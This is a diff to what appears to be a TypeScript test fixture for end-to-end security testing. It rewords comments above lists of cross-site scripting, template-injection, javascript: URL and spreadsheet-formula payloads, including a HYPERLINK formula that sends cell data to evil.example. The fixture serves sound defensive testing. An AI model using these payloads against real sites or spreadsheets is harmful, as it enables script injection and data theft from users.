@@ -3,7 +3,7 @@
  * evil.example; tests/e2e/support/canary.ts hears of both. Short, because most fields are.
  */
 
-/** Markup of its own. */
+/** Markup. */
 const MARKUP = [
   "<script>pwn()</script>",
   "<ScRiPt >pwn()</sCrIpT >",
@@ -42,7 +42,7 @@ const MARKUP = [
   "<base target='",
 ] as const;
 
-/** Out of the place where a text stands. */
+/** Texts that end the attribute, element or script they are written into. */
 const WAYS_OUT = [
   "</title><script>pwn()</script>",
   "</textarea><script>pwn()</script>",
@@ -64,7 +64,7 @@ const WAYS_OUT = [
   '"}</script><script>pwn()</script>',
 ] as const;
 
-/** Harmless until something parses them a second time. */
+/** Texts that do harm only when something decodes them twice. */
 const MUTATIONS = [
   '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
   '<svg></p><style><a id="</style><img src=x onerror=pwn()>">',
@@ -78,7 +78,7 @@ const MUTATIONS = [
   "<scr\u200bipt>pwn()</scr\u200bipt>",
 ] as const;
 
-/** For whatever fills in, runs or sends texts. */
+/** Texts that do harm in templates, Markdown, mail headers, PDFs or names of properties, or deceive the eye. */
 const OTHER_LANGUAGES = [
   "{{constructor.constructor('pwn()')()}}",
   "$" + "{pwn()}",
@@ -97,7 +97,7 @@ const OTHER_LANGUAGES = [
   "p\u0430ypal.example",
 ] as const;
 
-/** What spreadsheets would run: every one starts like a formula. */
+/** Formulas that a spreadsheet would run. */
 const FORMULAS = [
   '=HYPERLINK("https://evil.example/?"&A1,"x")',
   "=1+1",
@@ -109,7 +109,7 @@ const FORMULAS = [
   "'=1+1",
 ] as const;
 
-/** Addresses that are none of a website. */
+/** Addresses that do not lead to a website. */
 export const DANGEROUS_ADDRESSES = [
   "javascript:pwn()",
   "JaVaScRiPt:pwn()",
@@ -135,7 +135,7 @@ export const DANGEROUS_ADDRESSES = [
   "https://",
 ] as const;
 
-/** Addresses of websites, with something in them. */
+/** Addresses of websites that contain a payload. */
 export const ODD_ADDRESSES = [
   "https://evil.example/<script>pwn()</script>",
   'https://evil.example/"onmouseover="pwn()',
